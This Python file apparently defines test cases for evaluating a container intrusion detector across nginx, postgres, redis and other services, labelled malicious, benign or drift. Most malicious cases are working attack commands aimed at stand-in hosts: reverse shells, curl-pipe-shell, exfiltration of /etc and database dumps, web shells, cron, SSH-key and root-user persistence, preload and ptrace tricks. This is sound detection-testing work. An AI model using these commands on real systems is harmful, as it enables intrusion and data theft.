# SPDX-License-Identifier: GPL-2.0-or-later
"""cases - what is done to a service after it was learned, each once, in a fresh container of the workload: the table that
record.py works through, and that cases.tsv comes from.

label  malicious   somebody is in: an operator wants to be woken
       benign      ordinary life, however new: nobody wants to see it
       drift       no attack, but a person must decide: it must be seen, and is in neither of the other two
half   A           by these the bits are chosen
       B           by these they are measured. Half of the services, and with them their attacks: nothing of a service is
                   in both.

act is a line for the workload's own shell (or the list of several), or a function of (case's Stage). In lines: @H an
address where things are fetched (8080), @R one that waits for a shell (4444), @S the site's name."""
H, R = "203.0.113.50", "203.0.113.66"
NAMES = {"updates.evil.test": [H], "pool.minexmr.test": ["203.0.113.90"], "cdn-7f3a.evil.test": ["203.0.113.91"]}
HALF = {"nginx": "A", "postgres": "A", "batch": "A", "redis": "B", "app": "B", "shell": "B"}

GET = "curl -s -o %s http://@H:8080/%s"
DROP = "curl -s -o {0} http://@H:8080/agent; chmod 755 {0}; {0} @R 4444 {1} 1"
MEMFD = ("python3 -c \"import os; f = os.memfd_create('x'); os.write(f, open('/bin/busybox', 'rb').read()); "
         "os.execve('/proc/self/fd/%d' % f, ['busybox', 'sleep', '1'], {})\"")
DELETED = ("cp /bin/busybox {0}; python3 -c \"import os; f = os.open('{0}', os.O_RDONLY); os.unlink('{0}'); "
           "os.execve('/proc/self/fd/%d' % f, ['busybox', 'sleep', '1'], {{}})\"")
BASH = "bash -c 'exec 3<>/dev/tcp/@R/4444; { id; uname -a; } >&3; read -t 1 l <&3; true'"
PYSHELL = ("python3 -c \"import socket, subprocess, os; s = socket.create_connection(('@R', 4444), 5); [os.dup2(s.fileno(), n) for n in (0, 1)]; "
           "subprocess.call(['/bin/sh', '-c', 'id; cat /etc/passwd; sleep 1'])\"")
PERL = ("perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, inet_aton(\"@R\"))) or die; open(STDOUT, \">&S\"); "
        "system(\"id; uname -a\"); sleep 1'")
SSL = "mkfifo /tmp/.p; (sleep 1; echo id) | timeout 3 openssl s_client -quiet -connect @R:4444 >/tmp/.p 2>/dev/null & timeout 3 sh </tmp/.p; rm /tmp/.p"
NC = "timeout 3 busybox nc @R 4444 -e /bin/sh"
CURLSH = "curl -s http://updates.evil.test:8080/i.sh | sh"
LOOK = "curl -s http://updates.evil.test:8080/look.sh | sh"
SETUID = "cp /bin/bash {0}; chmod 4755 {0}"
PRELOAD = (GET % ("/usr/lib/x86_64-linux-gnu/libnsl_x.so", "hook.so")) + "; echo /usr/lib/x86_64-linux-gnu/libnsl_x.so >/etc/ld.so.preload; id >/dev/null"
ENVLOAD = (GET % ("/var/tmp/.l.so", "hook.so")) + "; LD_PRELOAD=/var/tmp/.l.so id >/dev/null"
CTYPES = (GET % ("/tmp/_x.so", "hook.so")) + "; python3 -c \"import ctypes, time; ctypes.CDLL('/tmp/_x.so'); time.sleep(1)\""
LOADER = "cp /bin/busybox /tmp/data.bin; chmod 644 /tmp/data.bin; /lib64/ld-linux-x86-64.so.2 /tmp/data.bin sleep 1; true"
TRACE = "cp %s /tmp/gdb; chmod 755 /tmp/gdb"
PTRACE = ("python3 -c \"import ctypes, os; c = ctypes.CDLL(None); p = {0}; r = c.ptrace(16, p, 0, 0); os.waitpid(p, 0x40000000); c.ptrace(17, p, 0, 0); raise SystemExit(r)\"")
CRON = "echo '*/5 * * * * root curl -s http://@H:8080/i.sh | sh' >/etc/cron.d/php-session; chmod 644 /etc/cron.d/php-session"
BINDSH = "timeout 3 busybox nc -ll -p 4455 -e /bin/sh & sleep 2"
BINDPY = "timeout 3 python3 -m http.server 9009 >/dev/null 2>&1 & sleep 2"
BINDOWN = (GET % ("/var/tmp/.sshd", "agent")) + "; chmod 755 /var/tmp/.sshd; /var/tmp/.sshd listen 2222 2"
TUNNEL = "for i in 1 2 3 4 5 6 7 8 9 10; do getent hosts $(head -c 20 /etc/passwd | md5sum | cut -c1-30)$i.t.evil.test; done; true"
CALLS = "for i in 3a 9c e1 77; do curl -s -m 3 -o /dev/null http://cdn-7f3a.evil.test:8080/$i; done"
BUSYONLY = ("busybox wget -q -O /var/lib/.c http://@H:8080/agent; busybox chmod 755 /var/lib/.c; busybox cp /var/lib/.c /var/lib/.d; busybox rm /var/lib/.c; "
            "busybox sh -c '/var/lib/.d @R 4444 ps 1'")
EVALPY = "python3 -c \"import urllib.request; exec(urllib.request.urlopen('http://updates.evil.test:8080/p.py').read())\""
SCRIPT = "curl -s -o /var/tmp/.up http://@H:8080/i.sh; sh /var/tmp/.up"
RECON = "id; uname -a; cat /etc/shadow; mount; ls -la /root /home; env >/dev/null; find / -perm -4000 -type f 2>/dev/null | head -3 >/dev/null"
EXFIL = "tar -C /etc -czf - . 2>/dev/null | curl -s -m 5 -o /dev/null --data-binary @- http://@H:8080/in"
USER = "echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd; echo 'toor:*:19000:0:99999:7:::' >>/etc/shadow"
SSHKEY = "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBogus x@y' >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys"
PYPATH = "echo 'import os' >/usr/lib/python3/dist-packages/zz_site.pth; echo 'import os; os.environ[\"X\"] = \"1\"' >/usr/lib/python3/dist-packages/sitecustomize.py; python3 -c pass"


def swapped(program, run):
    """A program of the image is replaced by another that does a little more, and runs."""
    return "cp -p {0} /tmp/.keep; cat /bin/busybox >{0}.n; chmod 755 {0}.n; mv {0}.n {0}; {1}; mv /tmp/.keep {0}".format(program, run)


def appended(program, run):
    return "printf x >>%s; %s" % (program, run)


def session(*argv):
    """By an exec session, as a person or an intruder with the engine's socket opens one."""
    return lambda stage: stage.session(*argv)


def session_sh(line):
    return lambda stage: stage.session("sh", "-c", stage.fill(line))


def release(**kw):
    return lambda stage: stage.release(**kw)


def service(line):
    """In the service's own process, or by its child, where it has a hole for that (the application)."""
    return lambda stage: stage.sh(line)


# kind, id, label, what kind of finding is expected ("none": nothing shown), in words, act
CASES = [
    # ---- A: nginx ----
    ("nginx", "drop-run", "malicious", "file+process", "a program is fetched to /tmp and runs under another name", DROP.format("/tmp/kinsing", "kdevtmpfsi")),
    ("nginx", "drop-in-cache", "malicious", "file+process", "a program hides where the cache's files come and go, and runs",
     "mkdir -p /var/cache/nginx/7/3f; " + DROP.format("/var/cache/nginx/7/3f/5d41402abc4b2a76b9719d911017c3f7", "nginx")),
    ("nginx", "memfd", "malicious", "process", "a program runs from memory", MEMFD),
    ("nginx", "deleted", "malicious", "process", "a program runs whose file is gone", DELETED.format("/tmp/.s")),
    ("nginx", "reverse-bash", "malicious", "process+network", "a shell to an address that no name led to, with nothing but bash", BASH),
    ("nginx", "web-shell", "malicious", "process+file", "a web shell: a page is left, and what it is told is run",
     "echo '<?php system($_GET[0]);' >/usr/share/nginx/html/s.php; sh -c 'id; uname -a; cat /etc/shadow'; " + SETUID.format("/usr/share/nginx/html/.b")),
    ("nginx", "curl-sh", "malicious", "process+network+file", "curl | sh, which fetches a program and runs it", CURLSH),
    ("nginx", "changed-binary", "malicious", "file+process", "nginx's own program is changed, and runs", swapped("/usr/sbin/nginx", "/usr/sbin/nginx true")),
    ("nginx", "preload", "malicious", "file+privilege", "a library that every program loads from now on", PRELOAD),
    ("nginx", "bind-shell", "malicious", "network+process", "a shell waits at a port", BINDSH),
    ("nginx", "cron", "malicious", "file", "a line for cron is left", CRON),
    ("nginx", "poisoned-release", "malicious", "process+network", "a new version holds a program that no package has, which calls home",
     release(program="usr/local/bin/metricsd", start="/usr/local/bin/metricsd cdn-7f3a.evil.test 8080 metricsd 2 &")),
    ("nginx", "session-drop", "malicious", "file+process", "an exec session fetches a program and runs it", session_sh(DROP.format("/tmp/.n", "ps"))),
    ("nginx", "conf-proxy", "malicious", "network+file", "the configuration is changed to send visitors' requests elsewhere",
     "sed -i 's#return 200 .*#proxy_pass http://@H:8080/;#' /etc/nginx/nginx.conf; nginx -s reload; sleep 1; curl -s -m 3 -o /dev/null http://127.0.0.1/health"),
    ("nginx", "weekly", "benign", "none", "a weekly job runs for the first time", "sh /opt/svc/weekly.sh"),
    ("nginx", "certificate", "benign", "none", "the certificate is made anew, and nginx told", "sh /opt/svc/cert.sh @S"),
    ("nginx", "rotation", "benign", "none", "the log is rotated", "sh /opt/svc/rotate.sh"),
    ("nginx", "reload", "benign", "none", "the configuration is read again", "nginx -s reload"),
    ("nginx", "tuned", "benign", "none", "a number of the configuration is changed, checked and taken up",
     "sed -i 's/worker_connections 256/worker_connections 512/' /etc/nginx/nginx.conf; nginx -t 2>/dev/null; nginx -s reload"),
    ("nginx", "replica", "benign", "none", "one more replica", lambda stage: stage.another()),
    ("nginx", "version-2", "benign", "none", "a new version: rebuilt programs, a new file", lambda stage: stage.another(2)),
    ("nginx", "version-3", "benign", "none", "two versions, one after the other", lambda stage: (stage.another(2), stage.another(3))),
    ("nginx", "addresses", "benign", "none", "the partners have other addresses", lambda stage: (stage.rotate(), stage.traffic(12))),
    ("nginx", "health-changed", "benign", "none", "another health check than before", lambda stage: stage.another(1, health="curl -fsS -m 4 -o /dev/null http://127.0.0.1/")),
    ("nginx", "session-look", "benign", "none", "a person looks at the log", session("tail", "-n", "5", "/var/log/nginx/access.log")),
    ("nginx", "busy", "benign", "none", "more visitors than ever", lambda stage: stage.traffic(60)),
    # ---- A: postgres ----
    ("postgres", "copy-program", "malicious", "process+network", "COPY FROM PROGRAM: the server's child is a shell that calls out",
     "psql -U app -d app -q -c \"CREATE TABLE x (t text)\" -c \"COPY x FROM PROGRAM 'id; curl -s -m 5 http://@H:8080/look.sh'\""),
    ("postgres", "copy-drop", "malicious", "file+process", "COPY FROM PROGRAM fetches a program and runs it",
     "psql -U app -d app -q -c \"CREATE TABLE y (t text)\" -c \"COPY y FROM PROGRAM 'curl -s -o /tmp/.pg http://@H:8080/agent; chmod 755 /tmp/.pg; /tmp/.pg @R 4444 postgres 1'\""),
    ("postgres", "in-data", "malicious", "file+process", "a program hides among the data, named as they are, and runs", DROP.format("/var/lib/postgresql/data/base/16390", "postgres")),
    ("postgres", "deleted", "malicious", "process", "a program runs whose file is gone", DELETED.format("/var/tmp/.z")),
    ("postgres", "memfd", "malicious", "process", "a program runs from memory", MEMFD),
    ("postgres", "library", "malicious", "file+privilege", "the server loads a library that was brought along",
     (GET % ("/var/lib/postgresql/hook.so", "hook.so")) + "; psql -U app -d app -q -c \"LOAD '/var/lib/postgresql/hook.so'\"; sleep 1; true"),
    ("postgres", "reverse-perl", "malicious", "process+network", "a shell to an address that no name led to, by perl", PERL),
    ("postgres", "kernel-name", "malicious", "privilege+file+process", "a miner with a kernel thread's name, to its pool by name",
     (GET % ("/var/lib/postgresql/.kw", "agent")) + "; chmod 755 /var/lib/postgresql/.kw; /var/lib/postgresql/.kw pool.minexmr.test 3333 kworker/1:2 1"),
    ("postgres", "ptrace", "malicious", "privilege", "another process is taken control of",
     PTRACE.format("int(open('/var/lib/postgresql/data/postmaster.pid').readline())")),
    ("postgres", "exfil", "malicious", "network+process", "a dump is sent to an address that no name led to",
     "pg_dump -U app app | gzip | curl -s -m 5 -o /dev/null --data-binary @- http://@H:8080/in"),
    ("postgres", "session-script", "malicious", "file+process", "an exec session runs a script that it fetched", session_sh(SCRIPT)),
    ("postgres", "listener", "malicious", "network+process", "a program that was brought waits at a port", BINDOWN),
    ("postgres", "vacuum", "benign", "none", "an upkeep that is known", "sh /opt/svc/upkeep.sh"),
    ("postgres", "vacuum-full", "benign", "none", "tables are written anew", "psql -U app -d app -q -c 'VACUUM FULL orders'"),
    ("postgres", "weekly", "benign", "none", "a dump and new indexes, for the first time", "sh /opt/svc/weekly.sh"),
    ("postgres", "certificate", "benign", "none", "a certificate, taken up without a restart", "sh /opt/svc/cert.sh"),
    ("postgres", "rotation", "benign", "none", "another log file", "sh /opt/svc/rotate.sh"),
    ("postgres", "settings", "benign", "none", "a setting is changed and taken up", "psql -U app -d app -q -c \"ALTER SYSTEM SET work_mem = '8MB'\" -c 'SELECT pg_reload_conf()' >/dev/null"),
    ("postgres", "new-tables", "benign", "none", "new tables, indexes, a database",
     "psql -U app -d app -q -c 'CREATE TABLE bills (id int PRIMARY KEY, t text)' -c \"INSERT INTO bills SELECT n, repeat('x', 100) FROM generate_series(1, 5000) n\"; psql -U app -d app -q -c 'CREATE DATABASE second'"),
    ("postgres", "crash", "benign", "none", "a backend dies, and the server recovers by itself",
     "psql -U app -d app -qAt -c 'SELECT pg_backend_pid()' -c 'SELECT pg_sleep(3)' >/tmp/pid & sleep 1; kill -9 $(cat /tmp/pid); sleep 2; rm -f /tmp/pid"),
    ("postgres", "replica", "benign", "none", "one more container of it", lambda stage: stage.another()),
    ("postgres", "version-2", "benign", "none", "a new version", lambda stage: stage.another(2)),
    ("postgres", "session-psql", "benign", "none", "a person asks the database", session("psql", "-U", "app", "-d", "app", "-c", "SELECT count(*) FROM orders")),
    ("postgres", "restart", "benign", "none", "the container is restarted", lambda stage: stage.restart()),
    # ---- A: batch ----
    ("batch", "drop-run", "malicious", "file+process", "a job fetches a program and runs it", DROP.format("/tmp/report.Xq81Zk2p", "sort")),
    ("batch", "hide-out", "malicious", "file+process", "a program named as the reports are, and run", DROP.format("/var/lib/batch/out/report-20261127-031500.csv.gz", "gzip")),
    ("batch", "job-changed", "malicious", "file+network", "a job of the image is changed to send more than it did",
     "echo 'tar -C /etc -czf - passwd hosts | curl -s -m 5 -o /dev/null --data-binary @- http://@H:8080/in' >>/opt/svc/report; SITE=@S /opt/svc/report"),
    ("batch", "curl-sh", "malicious", "process+network+file", "curl | sh", CURLSH),
    ("batch", "look-only", "malicious", "network", "curl | sh that only looks and sends, and leaves no file", LOOK),
    ("batch", "exfil-raw", "malicious", "network", "a program that always calls sends to an address that no name led to", EXFIL),
    ("batch", "eval", "malicious", "network+process", "python runs what it fetched, and calls out", EVALPY),
    ("batch", "setuid", "malicious", "file", "a shell that makes whoever runs it root", SETUID.format("/var/tmp/.b")),
    ("batch", "changed-curl", "malicious", "file+process", "curl is changed, and runs", appended("/usr/bin/curl", "curl -s -m 3 -o /dev/null http://api.@S.test/v1/rates")),
    ("batch", "reverse-nc", "malicious", "process+network", "a shell to an address that no name led to, by busybox", NC),
    ("batch", "new-names", "malicious", "network", "many names never called, one after the other", CALLS),
    ("batch", "tunnel", "malicious", "network", "data in names that are only asked for, never called", TUNNEL),
    ("batch", "loader", "malicious", "file+privilege", "a file that cannot be run is run by the loader", LOADER),
    ("batch", "weekly", "benign", "none", "a weekly job, by other programs than the daily ones", "SITE=@S sh /opt/svc/weekly.sh"),
    ("batch", "report", "benign", "none", "a report at an unusual time", "SITE=@S /opt/svc/report"),
    ("batch", "fetch", "benign", "none", "rates at an unusual time", "SITE=@S /opt/svc/fetch"),
    ("batch", "tidy", "benign", "none", "old results go", "SITE=@S /opt/svc/tidy"),
    ("batch", "addresses", "benign", "none", "the partners have other addresses", lambda stage: (stage.rotate(), stage.sh("SITE=@S /opt/svc/fetch; SITE=@S /opt/svc/report"))),
    ("batch", "version-2", "benign", "none", "a new version", lambda stage: stage.another(2)),
    ("batch", "more", "benign", "none", "two more of it", lambda stage: (stage.another(), stage.another())),
    ("batch", "byte-code", "benign", "none", "python keeps byte code of a module for the first time",
     "mkdir -p /var/lib/batch/lib; echo 'X = 1' >/var/lib/batch/lib/mod.py; PYTHONPATH=/var/lib/batch/lib python3 -c 'import mod'"),
    ("batch", "packages-looked", "benign", "none", "the job that looks for newer packages finds none", "apt-get -qq -s upgrade >/dev/null 2>&1; dpkg --audit; dpkg-query -W >/var/lib/batch/packages.txt"),
    ("batch", "new-port", "drift", "network", "a known partner is called at another port", lambda stage: stage.sh("curl -s -m 2 -o /dev/null http://hooks.@S.test:81/report; true")),
    ("batch", "folders", "benign", "none", "results of a new month lie in a new directory", "mkdir -p /var/lib/batch/out/2026-12; for i in 1 2 3 4; do echo $i >/var/lib/batch/out/2026-12/report-$i.csv; done"),
    ("batch", "package-update", "drift", "file+process", "a job brings a package into the running container, and no window was declared for it", lambda stage: stage.package()),
    ("batch", "new-internal", "drift", "network", "a job calls an internal service that it never called", "curl -s -m 3 -o /dev/null http://search.@S.test/q"),
    ("nginx", "new-upstream", "drift", "network", "a site is served from an internal service that it never called",
     "sed -i 's#return 200 .*#proxy_pass http://search.@S.test/;#' /etc/nginx/nginx.conf; nginx -s reload; sleep 1; curl -s -m 3 -o /dev/null http://127.0.0.1/health"),
    # ---- B: redis ----
    ("redis", "cron-by-save", "malicious", "file", "the store is told to write its data where cron looks, may not, and writes it beside its copies",
     "redis-cli CONFIG SET dir /var/spool/cron/crontabs; redis-cli CONFIG SET dir /var/lib/redis/backup; redis-cli CONFIG SET dbfilename root; redis-cli SET x '* * * * * id'; redis-cli SAVE; "
     "redis-cli CONFIG SET dir /var/lib/redis; redis-cli CONFIG SET dbfilename dump.rdb"),
    ("redis", "module", "malicious", "file+privilege", "the store loads a module that was brought along", (GET % ("/var/lib/redis/exp.so", "hook.so")) + "; chmod 755 /var/lib/redis/exp.so; redis-cli MODULE LOAD /var/lib/redis/exp.so; sleep 1; true"),
    ("redis", "drop-run", "malicious", "file+process", "a miner in the data's directory", DROP.format("/var/lib/redis/red2", "xmrig")),
    ("redis", "drop-temp-name", "malicious", "file+process", "a program under the name of the store's own temporary files", DROP.format("/var/lib/redis/temp-8123.rdb", "redis-server")),
    ("redis", "memfd", "malicious", "process", "a program runs from memory", MEMFD),
    ("redis", "deleted", "malicious", "process", "a program runs whose file is gone", DELETED.format("/tmp/.r")),
    ("redis", "reverse-python", "malicious", "process+network", "a shell to an address that no name led to, by python", PYSHELL),
    ("redis", "miner-pool", "malicious", "file+process+network", "a miner that calls its pool by name",
     (GET % ("/tmp/.ICE-unix", "agent")) + "; chmod 755 /tmp/.ICE-unix; /tmp/.ICE-unix pool.minexmr.test 3333 ksoftirqd/0 1"),
    ("redis", "busybox-only", "malicious", "file+process", "all by applets of busybox", BUSYONLY.replace("/var/lib/", "/var/lib/redis/")),
    ("redis", "replica-of", "malicious", "network", "the store is made the replica of a stranger", "redis-cli REPLICAOF @R 4444; sleep 1; redis-cli REPLICAOF NO ONE"),
    ("redis", "session-recon", "malicious", "process", "an exec session looks around, and sends what it saw", session_sh("id; cat /etc/passwd; " + EXFIL)),
    ("redis", "save", "benign", "none", "all is written to disk", "redis-cli SAVE"),
    ("redis", "upkeep", "benign", "none", "an upkeep that is known", "sh /opt/svc/upkeep.sh"),
    ("redis", "rewrite", "benign", "none", "the log of changes is written anew", "redis-cli BGREWRITEAOF; sleep 1"),
    ("redis", "weekly", "benign", "none", "a weekly check, for the first time", "sh /opt/svc/weekly.sh"),
    ("redis", "setting", "benign", "none", "a setting is changed", "redis-cli CONFIG SET maxmemory 64mb; redis-cli CONFIG SET appendfsync always"),
    ("redis", "rotation", "benign", "none", "the log is moved", "sh /opt/svc/rotate.sh"),
    ("redis", "replica", "benign", "none", "one more of it", lambda stage: stage.another()),
    ("redis", "version-2", "benign", "none", "a new version", lambda stage: stage.another(2)),
    ("redis", "version-3", "benign", "none", "two versions, one after the other", lambda stage: (stage.another(2), stage.another(3))),
    ("redis", "session-cli", "benign", "none", "a person asks the store how it is", session("redis-cli", "INFO")),
    ("redis", "health-changed", "benign", "none", "another health check", lambda stage: stage.another(1, health="redis-cli DBSIZE")),
    ("redis", "many-keys", "benign", "none", "more data than ever", "i=0; while [ $i -lt 800 ]; do echo SET key:$i $i$i$i$i$i$i$i$i$i$i$i; i=$((i+1)); done | redis-cli >/dev/null; redis-cli BGSAVE; sleep 1"),
    ("redis", "no-aof", "benign", "none", "one of its two ways to keep data is switched off and on", "redis-cli CONFIG SET appendonly no; sleep 1; redis-cli CONFIG SET appendonly yes; sleep 1"),
    # ---- B: app ----
    ("app", "child-recon", "malicious", "process", "the service's child is a shell that looks around", RECON),
    ("app", "child-drop", "malicious", "file+process", "the service's child fetches a program and runs it", DROP.format("/tmp/.X11", "python3")),
    ("app", "hide-cache", "malicious", "file+process", "a program named as the cached answers are",
     "mkdir -p /var/cache/app/5d; " + DROP.format("/var/cache/app/5d/5d41402abc4b2a76b9719d911017c592aa11bb22.json", "python3")),
    ("app", "hide-upload", "malicious", "file+process", "an upload that is a program, and is run",
     "mkdir -p /var/lib/app/uploads/2026/11/27; " + DROP.format("/var/lib/app/uploads/2026/11/27/0b7e4f0c-6f6e-4a3e-9d53-0e6f6a1d2c3b.bin", "app")),
    ("app", "own-process-calls", "malicious", "network", "the service's own process calls an address that no name led to",
     "#py import socket; s = socket.create_connection(('203.0.113.66', 4444), 5); s.sendall(b'x'); s.recv(10); s.close()"),
    ("app", "own-process-name", "malicious", "network", "the service's own process sends to a name that it never called",
     "#py import urllib.request; urllib.request.urlopen('http://cdn-7f3a.evil.test:8080/in', b'x' * 20000, 5).read()"),
    ("app", "ctypes", "malicious", "file+privilege", "the service loads a library that was brought along", CTYPES),
    ("app", "env-preload", "malicious", "file+privilege", "LD_PRELOAD of a library that was brought along", ENVLOAD),
    ("app", "ptrace", "malicious", "privilege", "a brother of the service is taken control of", "sleep 5 & " + PTRACE.format("int('$!')")),
    ("app", "tracer", "malicious", "file+process+privilege", "a tool is brought that takes control of the service itself", (GET % ("/tmp/.t", "tracer")) + "; chmod 755 /tmp/.t; /tmp/.t 1"),
    ("app", "curl-sh", "malicious", "process+network+file", "curl | sh", CURLSH),
    ("app", "poisoned-release", "malicious", "process+network", "a new version whose service starts a program that no package has",
     release(program="opt/svc/.helper", patch="import subprocess\nsubprocess.Popen(['/opt/svc/.helper', '203.0.113.66', '4444', 'helper', '2'])\n")),
    ("app", "code-changed", "malicious", "file+network", "the service's code is changed, and another of it runs with it",
     "echo 'import urllib.request; urllib.request.urlopen(\"http://203.0.113.50:8080/x\", timeout=5).read()' >>/opt/svc/shop.py; cd /opt/svc; python3 -c 'import shop'"),
    ("app", "listener", "malicious", "network+process", "a server for whoever calls, by python's own", BINDPY),
    ("app", "weekly", "benign", "none", "a weekly job, for the first time", "sh /opt/svc/weekly.sh @S"),
    ("app", "rotation", "benign", "none", "old logs go", "sh /opt/svc/rotate.sh"),
    ("app", "uploads", "benign", "none", "uploads", lambda stage: stage.traffic(20)),
    ("app", "new-day", "benign", "none", "uploads of a new day lie in a new directory", "#py import os; os.makedirs('/var/lib/app/uploads/2026/12/01', exist_ok=True); open('/var/lib/app/uploads/2026/12/01/1f6bfa5c-5d61-4ad6-b8c2-9d1de2a2be11.bin', 'w').write('x')"),
    ("app", "byte-code", "benign", "none", "python keeps byte code of a module that it had not loaded", "#py import sys, py_compile; py_compile.compile('/usr/lib/python3/dist-packages/redis/sentinel.py')"),
    ("app", "replica", "benign", "none", "one more of it", lambda stage: stage.another()),
    ("app", "version-2", "benign", "none", "a new version", lambda stage: stage.another(2)),
    ("app", "version-3", "benign", "none", "two versions", lambda stage: (stage.another(2), stage.another(3))),
    ("app", "addresses", "benign", "none", "the partners have other addresses", lambda stage: (stage.rotate(), stage.rest(8))),
    ("app", "restart", "benign", "none", "the container is restarted", lambda stage: stage.restart()),
    ("app", "temp-files", "benign", "none", "temporary files under names that never come again", "#py import tempfile, os; [os.unlink(tempfile.mkstemp(prefix='up-', suffix='.part')[1]) for n in range(12)]"),
    ("app", "export", "benign", "none", "a file of results is kept where none was", "#py import os; os.makedirs('/var/lib/app/exports', exist_ok=True); open('/var/lib/app/exports/orders.csv', 'w').write('1,2')"),
    ("app", "session-ps", "benign", "none", "a person looks at what is kept", session("ls", "-la", "/var/lib/app")),
    ("app", "new-service", "drift", "network", "the service calls an internal service that it never called", "#py import urllib.request; urllib.request.urlopen('http://search.@S.test/q', timeout=5).read()"),
    # ---- B: shell ----
    ("shell", "drop-run", "malicious", "file+process", "a program is fetched among the jobs' temporary files, and runs", "mkdir -p /tmp/job.aB3xYz; " + DROP.format("/tmp/job.aB3xYz/item", "sed")),
    ("shell", "hide-spool", "malicious", "file+process", "a program named as the items are", DROP.format("/var/lib/worker/spool/item-404.txt", "sort")),
    ("shell", "fetch-exec", "malicious", "file+process", "a script is fetched, made executable and run", "curl -s -o /var/tmp/u.sh http://@H:8080/i.sh; chmod 755 /var/tmp/u.sh; /var/tmp/u.sh"),
    ("shell", "reverse-openssl", "malicious", "process+network", "a shell by openssl", SSL),
    ("shell", "reverse-bash", "malicious", "process+network", "a shell by bash alone", BASH),
    ("shell", "start-changed", "malicious", "file", "the loop's own script is changed: it goes on with a line more",
     "echo 'curl -s -m 3 -o /dev/null http://203.0.113.50:8080/beat' >>/opt/svc/turn.sh; sleep 9"),
    ("shell", "builtins", "malicious", "file", "a user with all rights, with nothing but what the shell has of its own", USER),
    ("shell", "changed-sed", "malicious", "file+process", "sed is changed, and runs", swapped("/bin/sed", "/bin/sed true")),
    ("shell", "setuid", "malicious", "file", "python is made setuid", "chmod u+s /usr/bin/python3.11"),
    ("shell", "ssh-key", "malicious", "file", "a key for whoever comes back", SSHKEY),
    ("shell", "site-packages", "malicious", "file", "a file that every python runs from now on", PYPATH),
    ("shell", "known-curl-raw", "malicious", "network", "curl, which always calls, calls an address that no name led to", "curl -s -m 3 -o /dev/null http://@H:8080/look.sh"),
    ("shell", "known-curl-name", "malicious", "network", "curl calls one name that it never called", "curl -s -m 3 -o /dev/null http://cdn-7f3a.evil.test:8080/1"),
    ("shell", "session-dropped", "malicious", "file+process", "an exec session leaves a program that waits at a port", session_sh(BINDOWN)),
    ("shell", "weekly", "benign", "none", "a weekly job, for the first time", "sh /opt/svc/weekly.sh"),
    ("shell", "rotation", "benign", "none", "the log is packed", "sh /opt/svc/rotate.sh"),
    ("shell", "key", "benign", "none", "a new key is made, as at the start", "sh /opt/svc/cert.sh"),
    ("shell", "restart", "benign", "none", "the container is restarted", lambda stage: stage.restart()),
    ("shell", "replica", "benign", "none", "one more of it", lambda stage: stage.another()),
    ("shell", "version-2", "benign", "none", "a new version", lambda stage: stage.another(2)),
    ("shell", "version-3", "benign", "none", "two versions", lambda stage: (stage.another(2), stage.another(3))),
    ("shell", "addresses", "benign", "none", "the partners have other addresses", lambda stage: (stage.rotate(), stage.rest(12))),
    ("shell", "temp-names", "benign", "none", "temporary files as ever, many of them", "for i in 1 2 3 4 5 6 7 8; do f=$(mktemp /tmp/tmp.XXXXXXXXXX); date >$f; rm $f; done"),
    ("shell", "other-text", "benign", "none", "a page more is written", "echo '<p>all is well</p>' >/var/lib/worker/www/status.html"),
    ("shell", "slow-partner", "benign", "none", "a query for the sums by hand of a known program", "psql -h db.@S.test -U app -d app -qAt -c 'SELECT max(id) FROM orders'"),
    ("shell", "session-df", "benign", "none", "a person looks at the room that is left", session("df", "-h")),
    ("shell", "health-changed", "benign", "none", "another health check", lambda stage: stage.another(1, health="test -s /run/worker/sum")),
    ("shell", "new-internal", "drift", "network", "the loop calls an internal service that it never called", "curl -s -m 3 -o /dev/null http://search.@S.test/q"),
]
